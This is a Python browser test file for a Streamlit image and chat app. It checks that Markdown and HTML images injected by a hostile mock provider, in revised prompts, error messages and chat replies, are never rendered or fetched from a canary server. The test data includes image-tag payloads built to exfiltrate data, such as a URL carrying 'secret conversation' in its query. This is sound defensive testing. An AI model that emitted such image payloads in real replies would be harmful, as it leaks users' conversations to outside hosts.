"""In Chromium: Markdown images in a prompt, a revised prompt, an error and a chat reply from a hostile provider
are never drawn, so the browser fetches nothing from the canary they point at."""
from __future__ import annotations

import base64

import pytest

from tests.browser_support import assert_no_exception, screenshot, start_app, stop_app, wait_for_app
from tests.security.hostile import HostileServer, chat_stream, png_bytes, serve_bytes, serve_json

pytestmark = pytest.mark.browser


@pytest.fixture(scope="module")
def canary():
    """Where every hostile image points: any request here means a browser drew untrusted Markdown."""
    server = HostileServer().start()
    for name in ("inline", "reference", "raw", "reply", "reply-ref", "error"):
        server.routes[f"/{name}.png"] = serve_bytes(png_bytes((4, 4)))
    yield server
    server.stop()


@pytest.fixture(scope="module")
def hostile_app(tmp_path_factory, canary, chromium_path):
    provider = HostileServer().start()
    c = canary.base
    provider.routes["/v1/models"] = serve_json({"object": "list", "data": [
        {"id": m, "object": "model", "created": 0, "owned_by": "x"} for m in ("gpt-image-2", "gpt-5.4-mini")]})
    provider.routes["/v1/images/generations"] = serve_json({"created": 0, "data": [
        {"b64_json": base64.b64encode(png_bytes()).decode(),
         "revised_prompt": f"revised ![r]({c}/inline.png) and ![ref][x]\n\n[x]: {c}/reference.png"}],
        "usage": {"input_tokens": 10, "output_tokens": 100, "total_tokens": 110}})
    provider.routes["/v1/chat/completions"] = chat_stream(
        f"Here you go: ![cat]({c}/reply.png?q=secret+conversation) and <img src=\"{c}/raw.png\"> and ![r][y]\n\n"
        f"[y]: {c}/reply-ref.png\n\n**bold stays**")
    data = tmp_path_factory.mktemp("untrusted-data")
    proc, app = start_app(data, tmp_path_factory.mktemp("logs") / "streamlit.log",
                          OPENAI_API_KEY="sk-browser-untrusted-0123456789", OPENAI_BASE_URL=provider.base + "/v1")
    yield app, provider
    stop_app(proc)
    provider.stop()


def _external_images(page, app_url: str) -> list[str]:
    sources = page.evaluate("() => [...document.querySelectorAll('img')].map(i => i.getAttribute('src') || '')")
    return [s for s in sources if not (s.startswith(("data:", "blob:", "/", app_url)))]


def test_no_hostile_image_is_drawn_or_fetched(hostile_app, canary, page):
    app, provider = hostile_app
    page.goto(app["url"] + "/generate")
    wait_for_app(page)
    main = page.locator("[data-testid='stMain']")
    box = main.get_by_role("textbox", name="Prompt", exact=True)
    box.fill(f"a fox ![p]({canary.base}/inline.png) <img src=\"{canary.base}/raw.png\">")
    box.press("Tab")
    wait_for_app(page)
    main.get_by_role("button", name="Generate", exact=True).first.click()
    wait_for_app(page)
    page.wait_for_function("() => document.body.innerText.includes('Revised prompt')", timeout=60_000)
    wait_for_app(page)
    assert_no_exception(page)
    body = main.inner_text()
    assert "![p](" in body and "revised ![r](" in body  # shown, as the characters they are
    assert _external_images(page, app["url"]) == []
    screenshot(page, "untrusted-generate")

    # a failing call whose error text carries an image
    provider.routes["/v1/images/generations"] = serve_json({"error": {
        "message": f"nope ![e]({canary.base}/error.png)", "type": "invalid_request_error", "param": None,
        "code": None}}, status=400)
    main.get_by_role("button", name="Generate", exact=True).first.click()
    wait_for_app(page)
    page.wait_for_function("() => document.body.innerText.includes('nope')", timeout=60_000)
    assert _external_images(page, app["url"]) == []

    # a chat reply keeps its Markdown but not its images
    page.goto(app["url"] + "/chat")
    wait_for_app(page)
    chat = page.get_by_test_id("stChatInputTextArea")
    chat.fill("describe a cat")
    chat.press("Enter")
    page.wait_for_function("() => document.body.innerText.includes('bold stays')", timeout=60_000)
    wait_for_app(page)
    assert_no_exception(page)
    assert page.locator("[data-testid='stChatMessage'] strong", has_text="bold stays").count() >= 1
    assert "image not shown: cat" in page.locator("[data-testid='stChatMessage']").last.inner_text()
    assert _external_images(page, app["url"]) == []
    screenshot(page, "untrusted-chat")

    page.goto(app["url"] + "/ledger")
    wait_for_app(page)
    assert_no_exception(page)
    # open the newest rows in full (the chat reply, then the revised prompt): click each row's selection box
    grid = page.locator("[data-testid='stDataFrame']").first.bounding_box()

    def toggle(row: int) -> None:
        page.mouse.click(grid["x"] + 20, grid["y"] + 36 + 48 * row + 24)
        wait_for_app(page)

    toggle(0)  # the chat reply
    assert "image not shown: cat" in page.locator("[data-testid='stMain']").inner_text()
    assert _external_images(page, app["url"]) == []
    toggle(0)
    toggle(2)  # the picture with its revised prompt
    assert "Revised prompt: revised ![r](" in page.locator("[data-testid='stMain']").inner_text()
    assert _external_images(page, app["url"]) == []
    screenshot(page, "untrusted-ledger")
    assert canary.requests == [], canary.requests


def test_a_crashing_page_shows_visitors_no_traceback(tmp_path, page):
    """With the project's config a script that raises shows a plain message: no exception text, no traceback;
    the server's log keeps both."""
    import subprocess
    import sys
    import time

    import requests

    from tests.browser_support import ROOT, _free_port

    script = tmp_path / "crash.py"
    script.write_text("import streamlit as st\nst.write('before')\n"
                      "raise RuntimeError('internal detail: /srv/secret/path line 42')\n")
    port = _free_port()
    log = open(tmp_path / "server.log", "w")
    proc = subprocess.Popen([sys.executable, "-m", "streamlit", "run", str(script), "--server.port", str(port)],
                            cwd=ROOT, stdout=log, stderr=subprocess.STDOUT)
    try:
        url = f"http://127.0.0.1:{port}"
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline:
            try:
                if requests.get(url + "/_stcore/health", timeout=1).ok:
                    break
            except requests.RequestException:
                time.sleep(0.3)
        page.goto(url)
        wait_for_app(page)
        page.wait_for_selector("[data-testid='stException']", timeout=30_000)
        shown = page.locator("[data-testid='stApp']").inner_text()
        assert "before" in shown
        assert "internal detail" not in shown and "RuntimeError" not in shown and "Traceback" not in shown, shown
    finally:
        proc.terminate()
        proc.wait(timeout=10)
        log.close()
    assert "internal detail: /srv/secret/path line 42" in (tmp_path / "server.log").read_text()
